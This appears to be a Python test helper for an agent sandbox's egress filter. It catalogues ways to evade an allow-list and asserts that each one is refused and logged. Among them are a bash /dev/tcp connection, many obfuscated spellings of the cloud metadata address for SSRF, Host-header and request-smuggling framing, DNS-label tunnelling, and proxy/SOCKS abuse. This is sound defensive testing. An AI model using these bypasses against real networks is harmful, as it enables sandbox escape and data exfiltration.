"""Ways around the list, what they say in each tier and what arrives of them: tried in sessions of the native launcher (test_attacks.py) and of
each tier's container (tests/container/test_egress_attacks.py)."""

import contextlib
import json
import socket
import subprocess
import time

from harness import eventually
from outgoing import RULES
from world import METADATA, OTHER, OUT, PUBLIC, PUBLIC6, SERVER, echo

PORT = 81  # open out there, in no rule
ETH_P_ALL, ETH_P_IP, ETH_P_IPV6 = 3, 0x800, 0x86DD
PRELUDE = f"""
import contextlib, ctypes, errno, json, os, select, socket, struct, subprocess, sys
PUBLIC, PUBLIC6, OTHER, METADATA, SERVER, OUT, PORT = {PUBLIC!r}, {PUBLIC6!r}, {OTHER!r}, {METADATA!r}, {SERVER!r}, {OUT!r}, {PORT}
API = b"Host: api.test\\r\\n"
def tcp(host, port=PORT, family=socket.AF_INET, protocol=0, options=(), say=b"attack"):
    s = socket.socket(family, socket.SOCK_STREAM, protocol)
    s.settimeout(5)
    for option in options: s.setsockopt(*option)
    s.connect((host, port))
    s.sendall(say)
    return s.recv(4096).decode("latin-1")
def sent(family, kind, protocol, to, data=b"attack", options=(), flags=0, wait=2):
    s = socket.socket(family, kind, protocol)
    s.settimeout(wait)
    for option in options: s.setsockopt(*option)
    s.sendto(data, flags, to)
    return s.recv(4096).decode("latin-1")
def proxied(target, how="CONNECT"):
    s = socket.create_connection(("127.0.0.1", 312), 5)
    s.settimeout(5)
    s.sendall(b"%s %s HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n" % (how.encode(), target, target.removeprefix(b"http://").rstrip(b"/")))
    return s.recv(4096).decode("latin-1")
def socks(host, port):
    s = socket.create_connection(("127.0.0.1", 312), 5)
    s.settimeout(5)
    s.sendall(b"\\5\\1\\0")
    s.recv(2)
    s.sendall(b"\\5\\1\\0\\3" + bytes([len(host)]) + host + struct.pack(">H", port))
    return str(s.recv(10)[1:2])
def ask(name, server="127.0.0.53", type_=1):
    labels = b"".join(bytes([len(l)]) + l for l in name.split(b"."))
    return sent(socket.AF_INET, socket.SOCK_DGRAM, 0, (server, 53), struct.pack(">6H", 7, 256, 1, 0, 0, 0) + labels + b"\\0" + struct.pack(">2H", type_, 1))
def shell(line): return "status:%d" % subprocess.run(["/bin/bash", "-c", line], capture_output=True, timeout=20).returncode
def requested(*requests):
    s = socket.create_connection(("127.0.0.1", 312), 5)
    s.settimeout(5)
    out = b""
    for host, more in requests:
        s.sendall(b"GET http://%s/ HTTP/1.1\\r\\n%s\\r\\n" % (host, more))
        while (host, more) != requests[-1] and not out.endswith(b"served") and (data := s.recv(4096)): out += data
    while data := s.recv(4096): out += data
    return out.decode("latin-1")
def served(*address):
    with socket.create_server(address): return "served"
def tried(code):
    try: return str(eval(code))
    except Exception as e: return errno.errorcode.get(getattr(e, "errno", None)) or repr(e)
def echo_request(): return struct.pack(">BBHHH", 8, 0, 0xf7fd, 1, 1)
"""
# What is run; the protocol and the address that a packet of it has; what it says in a session, and after that the refusal that is on record.
# That is of three kinds: every port meets the door, some do (without nf_tables), or connections are made on behalf of the session (T0, T1).
TCP, UDP, ICMP, ROUTING, SCTP = 6, 17, 1, 43, 132
DOOR, PORTS, BEHALF = range(3)
FILTERED = ("EPERM",) * 3
REFUSED = ("ECONNRESET unresolved", "ECONNREFUSED", "EACCES unresolved")
UNRESOLVED = ("403 unresolved",) * 3
UNSERVED = ("ECONNREFUSED", "ECONNREFUSED", "EACCES")
NOWHERE = ("TimeoutError", "TimeoutError", "EACCES")  # they do not leave the workspace's loopback
ATTACKS = {
    "a port in no rule": ("tcp(PUBLIC)", TCP, PUBLIC, REFUSED),
    "IPv6": ("tcp(PUBLIC6, family=socket.AF_INET6)", TCP, PUBLIC6, REFUSED),
    "IPv4 in IPv6": ("tcp('::ffff:' + PUBLIC, family=socket.AF_INET6)", TCP, PUBLIC, REFUSED),
    "TCP Fast Open by its flag": ("sent(socket.AF_INET, socket.SOCK_STREAM, 0, (PUBLIC, PORT), flags=0x20000000)", TCP, PUBLIC, FILTERED),
    "TCP Fast Open by its option": ("tcp(PUBLIC, options=[(6, 30, 1)])", TCP, PUBLIC, REFUSED),
    "MPTCP": ("tcp(PUBLIC, protocol=262)", TCP, PUBLIC, FILTERED),
    "SCTP": ("tcp(PUBLIC, protocol=132)", SCTP, PUBLIC, FILTERED),
    "a loose source route": ("tcp(PUBLIC, options=[(0, 4, bytes([1, 131, 7, 4]) + socket.inet_aton(PUBLIC))])", TCP, PUBLIC, FILTERED),
    "a routing header": ("tcp(PUBLIC6, family=socket.AF_INET6, options=[(41, 57, bytes([0, 4, 4, 1, 1, 0, 0, 0]) + 2 * socket.inet_pton(10, PUBLIC6))])",
                         ROUTING, PUBLIC6, ("TimeoutError", "TimeoutError", "EPERM")),
    "a mark": ("tcp(PUBLIC, options=[(1, 36, 1)])", TCP, PUBLIC, FILTERED),
    "without routes": ("tcp(PUBLIC, options=[(1, 5, 0), (1, 12, 6)])", TCP, PUBLIC, REFUSED),
    "UDP": ("sent(socket.AF_INET, socket.SOCK_DGRAM, 0, (PUBLIC, 443), options=[(0, 11, 1)])", UDP, PUBLIC, UNSERVED),
    "UDP over IPv6": ("sent(socket.AF_INET6, socket.SOCK_DGRAM, 0, (PUBLIC6, 443), options=[(41, 25, 1)])", UDP, PUBLIC6, UNSERVED),
    "UDP to a group": ("sent(socket.AF_INET, socket.SOCK_DGRAM, 0, ('224.0.0.251', 5353), wait=0.3)", UDP, "224.0.0.251", NOWHERE),
    "UDP to everybody": ("sent(socket.AF_INET, socket.SOCK_DGRAM, 0, ('255.255.255.255', 9), options=[(1, 6, 1)], wait=0.3)", UDP, "255.255.255.255", NOWHERE),
    "UDP-Lite": ("sent(socket.AF_INET, socket.SOCK_DGRAM, 136, (PUBLIC, 443))", 136, PUBLIC, ("EPERM", "EPERM", "EACCES")),
    "ICMP": ("sent(socket.AF_INET, socket.SOCK_RAW, 1, (PUBLIC, 0), echo_request())", ICMP, PUBLIC, FILTERED),
    "a raw packet": ("sent(socket.AF_INET, socket.SOCK_RAW, 253, (PUBLIC, 0))", 253, PUBLIC, FILTERED),
    "the shell's /dev/tcp": ("shell(f'exec 3<>/dev/tcp/{PUBLIC}/{PORT} && echo attack >&3 && head -n 1 <&3')", TCP, PUBLIC,
                             ("status:1 unresolved", "status:1", "status:1 unresolved")),
    "a cloud's metadata": ("tcp(METADATA, 80, say=b'GET / HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n')", TCP, METADATA, ("403 canary",) * 3),
    "another's name at the address of a name": ("tcp(OTHER, 80, say=b'GET / HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n')", TCP, OTHER, UNRESOLVED),
    "a name server of one's own": ("socket.inet_ntoa(ask(b'tunnel.example', SERVER)[-4:].encode('latin-1'))", UDP, SERVER, ("198.18.", "198.18.", "EACCES")),
}  # fmt: skip
# The same of what has no packet of its own. AGENT is the port of the agent, where the launcher stands.
ASKED = {
    "the agent at the loopback": ("tcp('127.0.0.1', AGENT)", ("ECONNREFUSED",) * 3),
    "the agent at the container's address": ("tcp(OUT, AGENT)", REFUSED),
    "the agent at 0.0.0.0": ("tcp('0.0.0.0', AGENT)", ("ECONNREFUSED", "ECONNREFUSED", "EACCES address")),
    "a tunnel to a port in no rule": ("proxied(b'api.test:22')", ("403 port",) * 3),
    "a tunnel to an address": ("proxied(PUBLIC.encode() + b':80')", ("403 not_listed",) * 3),
    "a cluster's name": ("proxied(b'kubernetes.default:443')", ("403 not_listed",) * 3),
    "a name whose record says otherwise": ("requested((b'rebinding.test', b'Host: rebinding.test\\r\\n'))", ("403 canary",) * 3),
    "another host in the head": ("requested((b'api.test', b'Host: other.test\\r\\n'))", ("403 host_differs",) * 3),
    "another host in the head, without the proxy": (
        "tcp(socket.gethostbyname('api.test'), 80, say=b'GET / HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n')", ("403 host_differs",) * 3),
    "another host on the same connection": ("requested((b'api.test', API), (b'other.test', b'Host: other.test\\r\\n'))", ("403 not_listed",) * 3),
    "a length and chunks": ("requested((b'api.test', API + b'Content-Length: 3\\r\\nTransfer-Encoding: chunked\\r\\n'))", ("400 framing",) * 3),
    "two lengths": ("requested((b'api.test', API + b'Content-Length: 3\\r\\nContent-Length: 4\\r\\n'))", ("400 framing",) * 3),
    "a folded line": ("requested((b'api.test', API + b' folded\\r\\n'))", ("400 framing",) * 3),
    "a server at a privileged port": ("served('127.0.0.1', 443)", ("EACCES",) * 3),
    "a server at the door's port": ("served('0.0.0.0', 312)", ("EACCES",) * 3),
    "a server at the agent's port": ("served('0.0.0.0', AGENT)", ("served", "served", "EACCES")),
}  # fmt: skip
# By the door as a proxy: what arrives nowhere, however it is asked for.
CLOUDS = [b"169.254.170.2", b"100.100.100.200", b"168.63.129.16", b"192.0.0.192", b"[fd00:ec2::254]"]
SPELLINGS = [b"169.254.169.254", b"169.254.169.254.", b"0xa9fea9fe", b"0xA9.0xFE.0xA9.0xFE", b"2852039166", b"0251.0376.0251.0376", b"169.254.43518",
             b"169.16689662", b"0251.254.169.0xfe", b"[::ffff:169.254.169.254]", b"[::ffff:a9fe:a9fe]", b"[64:ff9b::a9fe:a9fe]", b"[2002:a9fe:a9fe::]",
             b"[::169.254.169.254]", b"%31%36%39.254.169.254", b"169\xe3\x80\x82254\xe3\x80\x82169\xe3\x80\x82254"]  # fmt: skip
ELSEWHERE = [b"other.test", b"api.test@other.test", b"api.test:80@other.test", b"other.test\0.api.test", b"other.test\t", b"api.test.other.test", b"xapi.test",
             b"127.0.0.1", b"[::1]", b"0.0.0.0", b"0", b"11.0.0.1", b"10.9.9.9", b"100.64.0.9", b"localhost", b"[fe80::1%25lo]"]  # fmt: skip
HOWS = {"CONNECT": "proxied({!r} + b':80')", "GET": "proxied(b'http://' + {!r} + b'/', 'GET')", "SOCKS": "socks({!r}.strip(b'[]'), 80)"}
TURNED_AWAY = ("HTTP/1.1 400 ", "HTTP/1.1 403 ", r"b'\x02'", r"b'\x07'")  # of SOCKS 5: not permitted, no such command
# Names that are not asked for outside, of whatever type: what a session would tell by them would leave.
LABEL = "b'%s' % (b'x' * 60)"
TELLING = (f"b'.'.join([{LABEL}] * 3 + [b'other', b'test'])", "b'secret.api.test'", "b'secret.api.test.other.test'", "b'other.test.api.test'")
QUESTIONS = [f"ask({name}, type_={kind})" for name in TELLING for kind in (1, 28, 16, 10, 255, 65, 5)]


class Seen:
    """(protocol, address) of each packet that arrives at the servers, without those of neighbour discovery and multicast groups."""

    def __init__(self, world):
        with world.world.inside():
            self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
            self.socket.bind(("v1", ETH_P_ALL))
        self.socket.setblocking(False)

    def packets(self):
        out = set()
        with contextlib.suppress(BlockingIOError):
            while True:
                data, (_, kind, direction, _, _) = self.socket.recvfrom(65536)
                if direction == socket.PACKET_OUTGOING:
                    continue
                if kind == ETH_P_IP:
                    out.add((data[14 + 9], socket.inet_ntoa(data[14 + 16 : 14 + 20])))
                elif kind == ETH_P_IPV6 and data[14 + 24] != 0xFF and data[14 + 6] != 58:
                    out.add((data[14 + 6], socket.inet_ntop(socket.AF_INET6, data[14 + 24 : 14 + 40])))
        return out


def listens(world):
    """What is out there to be reached, and names of it."""
    world.names.zone.update({"api.test": [PUBLIC], "other.test": [OTHER], "rebinding.test": [METADATA, "127.0.0.1"]})
    for address in (PUBLIC, PUBLIC6, OTHER, METADATA):
        world.serve(address, PORT, echo)
        world.serve(address, 80, pages if address == PUBLIC else echo)


def pages(connection):
    """One for each head, on one connection."""
    data = b""
    while more := connection.recv(65536):
        *heads, data = (data + more).split(b"\r\n\r\n")
        connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\n\r\nserved" * len(heads))


NAMED = [{"host": host, "ports": [80], "why": "what a test needs"} for host in ("api.test", "rebinding.test")]
POLICY = {**RULES, "egress": NAMED}  # of a domain that goes out


def told(*codes, agent=0):
    """A program that says of each what it gives, or which error it meets."""
    return f"{PRELUDE}\nAGENT = {agent}\nprint(json.dumps([tried(code) for code in {codes!r}]))"


def unconfined(world, *codes):
    """What these attacks do in the launcher's own network namespace."""
    argv = ["/usr/bin/python3", "-I", "-c", told(*codes)]
    done = subprocess.run(argv, preexec_fn=world.as_container, capture_output=True, text=True, timeout=120, check=True)
    return json.loads(done.stdout)


# Of each, what may arrive nevertheless: what the session asked of the host that it may reach.
TABLES = {"packets": (ATTACKS, set()), "requests": (ASKED, {(TCP, PUBLIC), (UDP, SERVER)})}


def try_all(stand, table):
    """A stand: inside(*codes), what they say in a session; seen; records(); kind."""
    rows, may_arrive = TABLES[table]
    wanted = [row[-1][stand.kind].split() for row in rows.values()]
    stand.seen.packets()
    before = len(stand.records())
    said = stand.inside(*(row[0] for row in rows.values()))
    wrong = {name: (was, want[0]) for name, was, want in zip(rows, said, wanted, strict=True) if want[0] not in was}
    assert not wrong, wrong
    on_record = [want[1] for want in wanted if len(want) > 1]

    def told_since():
        return [r["refusal"] for r in stand.records()[before:] if r["event"] == "egress_refused"]

    eventually(lambda: len(told_since()) >= len(on_record), what=f"of {on_record} on record: {told_since()}")
    assert told_since() == on_record, told_since()
    time.sleep(0.1)
    assert (arrived := stand.seen.packets()) <= may_arrive, arrived


def try_spellings(stand, how):
    stand.seen.packets()
    targets = [*CLOUDS, *SPELLINGS, *ELSEWHERE]
    for target, said in zip(targets, stand.inside(*(how.format(target) for target in targets)), strict=True):
        assert said.startswith(TURNED_AWAY), (target, said)
    time.sleep(0.1)
    assert not stand.seen.packets()
    eventually(lambda: [r for r in stand.records() if r.get("refusal") == "canary"], what="an alarm is on record")


def try_names(stand):
    stand.seen.packets()
    answers = stand.inside(*QUESTIONS)
    answered = set(answers) == {"EACCES"} if stand.kind == BEHALF else all(answer.startswith("\0\7") for answer in answers)
    assert answered, answers
    time.sleep(0.1)
    assert not stand.seen.packets()
